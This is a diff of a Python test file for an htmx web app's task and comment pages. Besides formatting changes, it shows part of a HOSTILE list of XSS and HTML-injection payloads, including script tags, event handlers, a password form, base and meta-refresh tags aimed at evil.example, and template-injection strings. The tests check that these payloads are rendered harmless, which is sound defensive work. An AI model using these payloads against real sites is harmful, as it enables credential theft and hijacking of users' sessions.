@@ -28,7 +28,7 @@ HOSTILE = [
     "<div data-hx-post='/sign-out' data-hx-trigger=load>x</div>",
     "<hx-partial hx-target='#main'>x</hx-partial>",
     "<div hx-on:click='alert(1)'>x</div>",
-    "<button hx-post=/clients/fornello-pizza/tasks/1/status hx-vals='{\"status\":\"done\"}'>x</button>",
+    '<button hx-post=/clients/fornello-pizza/tasks/1/status hx-vals=\'{"status":"done"}\'>x</button>',
     "<form action=https://evil.example><input name=password></form>",
     "<base href=https://evil.example/>",
     "<meta http-equiv=refresh content='0;url=https://evil.example'>",
@@ -38,7 +38,7 @@ HOSTILE = [
     "<template><script>alert(1)</script></template>",
     "<details open ontoggle=alert(1)>x</details>",
     "<object data=https://evil.example/x.swf></object>",
-    "\"><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
     "' autofocus onfocus=alert(1) x='",
     "</textarea></title><script>alert(1)</script>",
     "{{ 7 * 7 }}{% raw %}",
@@ -56,7 +56,9 @@ def test_rosa_writes(rosa, task):
 
 
 def test_sent_five_times_it_is_said_once(rosa, task):
-    answers = {rosa.swap(at(task, "/comments"), body="Once.", form_key="one-key").words("ol") for _ in range(5)}
+    answers = {
+        rosa.swap(at(task, "/comments"), body="Once.", form_key="one-key").words("ol") for _ in range(5)
+    }
     assert [comment.body for comment in comments_of(task)] == ["Once."]
     assert len(answers) == 1
 
@@ -69,7 +71,9 @@ def test_one_key_in_two_hands_says_both(rosa, marco, task):
 
 def test_what_others_wrote_meanwhile_comes_along(rosa, marco, task):
     marco.swap(at(task, "/comments"), body="Try it on Tuesday.")
-    assert "Try it on Tuesday." in rosa.swap(at(task, "/comments"), body="Done.").parts["task-1-sheet-talk"].text
+    assert (
+        "Try it on Tuesday." in rosa.swap(at(task, "/comments"), body="Done.").parts["task-1-sheet-talk"].text
+    )
 
 
 def test_it_works_without_scripts(rosa, task):
@@ -107,7 +111,9 @@ def test_hostile_words_are_only_words(dana, task, line):
     for voice in page.soup.select(".voice"):
         check_harmless(voice)
     for part in ("title", "steps"):
-        assert not page.soup.select(f"#task-1-sheet-{part} :is(script, img, iframe, object, base, meta, style)")
+        assert not page.soup.select(
+            f"#task-1-sheet-{part} :is(script, img, iframe, object, base, meta, style)"
+        )
     assert "evil.example/pixel" not in str([tag.attrs for tag in page.soup.select("[src]")])
 
 
